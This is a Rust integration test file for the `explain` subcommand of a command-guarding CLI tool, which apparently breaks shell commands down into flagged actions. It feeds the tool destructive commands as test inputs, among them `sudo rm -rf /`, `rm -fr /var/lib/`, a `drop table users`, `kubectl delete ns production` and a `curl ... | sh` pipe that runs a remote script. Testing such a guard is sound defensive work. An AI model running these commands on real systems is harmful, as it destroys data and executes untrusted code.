#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! `guard explain`: the JSON contract, the human tree, stdin, and usage errors.

use assert_cmd::Command;
use predicates::prelude::*;
use serde_json::Value;

fn guard() -> Command {
    let mut cmd = Command::cargo_bin("guard").unwrap();
    cmd.env("NO_COLOR", "1");
    cmd
}

fn json(args: &[&str]) -> Value {
    let output = guard()
        .arg("explain")
        .arg("--format")
        .arg("json")
        .args(args)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).unwrap()
}

fn actions(value: &Value) -> &Vec<Value> {
    value["actions"].as_array().unwrap()
}

#[test]
fn json_lists_nested_sql_with_its_via_chain() {
    let v = json(&["sudo bash -c \"psql -c 'drop table users'\""]);
    let all = actions(&v);
    let programs: Vec<&str> = all
        .iter()
        .filter(|a| a["kind"] == "exec")
        .map(|a| a["program"].as_str().unwrap())
        .collect();
    assert_eq!(programs, ["sudo", "bash", "psql"]);
    for a in all {
        assert!(a["span"].is_array() && a["via"].is_array(), "{a}");
    }
    let psql = all.iter().find(|a| a["program"] == "psql").unwrap();
    assert_eq!(psql["via"], serde_json::json!(["sudo", "bash -c"]));
    assert_eq!(psql["elevated"], true);
    // The SQL front end is another engineer's; only the via chain is this command's contract.
    if let Some(sql) = all.iter().find(|a| a["kind"] == "sql") {
        assert_eq!(
            sql["via"],
            serde_json::json!(["sudo", "bash -c", "psql -c"])
        );
    }
}

#[test]
fn json_exec_has_normalised_flags() {
    let v = json(&["rm -fr /var/lib/"]);
    let rm = &actions(&v)[0];
    assert_eq!(rm["kind"], "exec");
    assert_eq!(rm["program"], "rm");
    assert_eq!(rm["flags"], serde_json::json!(["force", "recursive"]));
    assert_eq!(rm["paths"], serde_json::json!(["/var/lib"]));
    assert_eq!(rm["span"], serde_json::json!([0, 16]));
}

#[test]
fn json_lifts_kubectl() {
    let v = json(&["kubectl delete ns production"]);
    let k8s = actions(&v).iter().find(|a| a["kind"] == "k8s").unwrap();
    assert_eq!(k8s["verb"], "delete");
    assert_eq!(k8s["resource"], "namespaces");
    assert_eq!(k8s["names"], serde_json::json!(["production"]));
}

#[test]
fn opaque_actions_carry_a_reason() {
    let v = json(&["curl -s https://x.example/i.sh | sh"]);
    let opaque = actions(&v).iter().find(|a| a["kind"] == "opaque").unwrap();
    assert_eq!(opaque["cause"], "decoded_exec");
    assert!(opaque["reason"].as_str().unwrap().contains("curl"));
}

#[test]
fn human_output_is_a_tree_with_source_and_via() {
    guard()
        .args(["explain", "sudo rm -rf /"])
        .assert()
        .success()
        .stdout(predicate::str::contains("2 actions"))
        .stdout(predicate::str::contains("├─ exec sudo rm -rf /"))
        .stdout(predicate::str::contains("└─ exec rm -rf /"))
        .stdout(predicate::str::contains("via"))
        .stdout(predicate::str::contains("recursive, force"))
        .stdout(predicate::str::contains("source"));
}

#[test]
fn reads_the_command_from_stdin() {
    guard()
        .args(["explain", "--format", "json", "-"])
        .write_stdin("kubectl get pods -A\n")
        .assert()
        .success()
        .stdout(predicate::str::contains("\"all_namespaces\": true"));
}

#[test]
fn invalid_utf8_on_stdin_is_an_opaque_action() {
    let output = guard()
        .args(["explain", "--format", "json", "-"])
        .write_stdin(vec![b'l', b's', 0xff])
        .output()
        .unwrap();
    assert!(output.status.success());
    let v: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(actions(&v)[0]["cause"], "invalid_input");
}

#[test]
fn sql_channel_is_accepted() {
    // Whatever the SQL front end extracts, the command succeeds and never returns nothing.
    let v = json(&["--channel", "sql", "--dialect", "mysql", "DELETE FROM t"]);
    assert!(!actions(&v).is_empty());
}

#[test]
fn missing_command_is_a_usage_error() {
    guard()
        .arg("explain")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no command"));
}

#[test]
fn unknown_channel_is_a_usage_error() {
    guard()
        .args(["explain", "--channel", "http", "ls"])
        .assert()
        .code(2);
}

#[test]
fn help_teaches_with_examples() {
    guard()
        .args(["explain", "--help"])
        .assert()
        .success()
        .stdout(predicate::str::contains("Examples:"))
        .stdout(predicate::str::contains("--channel"))
        .stdout(predicate::str::contains("opaque"));
}
